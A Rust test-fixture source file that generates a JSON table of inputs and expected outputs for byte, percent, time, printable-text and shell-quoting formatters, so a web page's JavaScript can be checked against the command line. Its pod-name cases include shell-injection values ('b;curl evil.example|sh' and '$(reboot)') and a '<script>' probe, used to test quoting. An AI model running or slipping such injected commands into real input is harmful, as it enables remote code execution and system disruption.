//! Figures and text with what the command line writes for them: the page's `format.js` must write the same.

use serde_json::{Value, json};
use tessera_model::percent::{format_cores, format_percent};
use tessera_model::quantity::format_bytes;
use tessera_model::{printable, time_format};
use tessera_view::advice::quoted;

/// A double counts no further: sizes beyond 8 PiB are inexact in a browser.
const EXACT: u64 = 1 << 53;

/// `{function: [[input…, text]…]}`.
pub fn table() -> Value {
    json!({
        "bytes": sizes().map(|n| json!([n, format_bytes(n)])).collect::<Vec<_>>(),
        "cores": (0..=1000u32).chain([1001, 12_345]).map(|n| json!([n, format_cores(n)])).collect::<Vec<_>>(),
        "percent": ([0, 1, 10, 100, 999, 1000, 1001, 12_340, 99_999, 100_000, 100_002, 1_234_567u64]
            .map(|n| json!([n, format_percent(n)]))),
        "utc": instants().map(|at| json!([at, time_format::utc(at)])).collect::<Vec<_>>(),
        "clock": instants().map(|at| json!([at, time_format::clock(at)])).collect::<Vec<_>>(),
        "ago": spans().map(|ms| json!([0, ms, time_format::ago(0, ms)])).collect::<Vec<_>>(),
        "line": texts().map(|text| json!([text, printable::line(&text)])).collect::<Vec<_>>(),
        "lines": texts().map(|text| json!([text, printable::lines(&text)])).collect::<Vec<_>>(),
        "quoted": pods().map(|pod| json!([pod, quoted(&pod)])).collect::<Vec<_>>(),
    })
}

fn sizes() -> impl Iterator<Item = u64> {
    let around = (0..=53u32).flat_map(|bits| {
        let size = 1u64 << bits;
        [size - 1, size, size + 1, size + size / 2, size + size / 10, size + size / 3]
    });
    around.chain([0, 999, 23_028 << 20, 46_068 << 20, 85_899_345_920]).filter(|n| *n <= EXACT)
}

fn instants() -> impl Iterator<Item = i64> {
    [
        0,
        1,
        999,
        1000,
        -1,
        -1000,
        951_782_400_000,
        1_709_251_199_999,
        1_795_336_321_500,
        4_107_542_400_000,
    ]
    .into_iter()
}

fn spans() -> impl Iterator<Item = i64> {
    [-5, 0, 999, 1000, 59, 60, 61, 119, 3599, 3600, 3661, 86_399, 86_400, 97_200, 999_999]
        .into_iter()
        .map(|seconds: i64| seconds * 1000)
}

/// Every character that could act, and some that only look so.
fn texts() -> impl Iterator<Item = String> {
    let single =
        (0..=0x2100u32).chain(0xfe00..=0xffff).filter_map(char::from_u32).map(|c| format!("a{c}b"));
    single.chain(["", "<script>", "été", "日本語", "😀", "e\u{301}"].map(str::to_owned))
}

/// Pods as `namespace/pod`, with every character that a shell could take for its own. No command has a control character.
fn pods() -> impl Iterator<Item = String> {
    let printed = texts().filter(|text| !text.contains(char::is_control));
    let strange = printed.map(|text| format!("team/{text}"));
    let whole = [
        "team/chat-0",
        "team/b;curl evil.example|sh",
        "team/'$(reboot)'",
        "-a/b",
        "a/b.c_d",
        "a b/c",
    ];
    strange.chain(whole.map(str::to_owned))
}
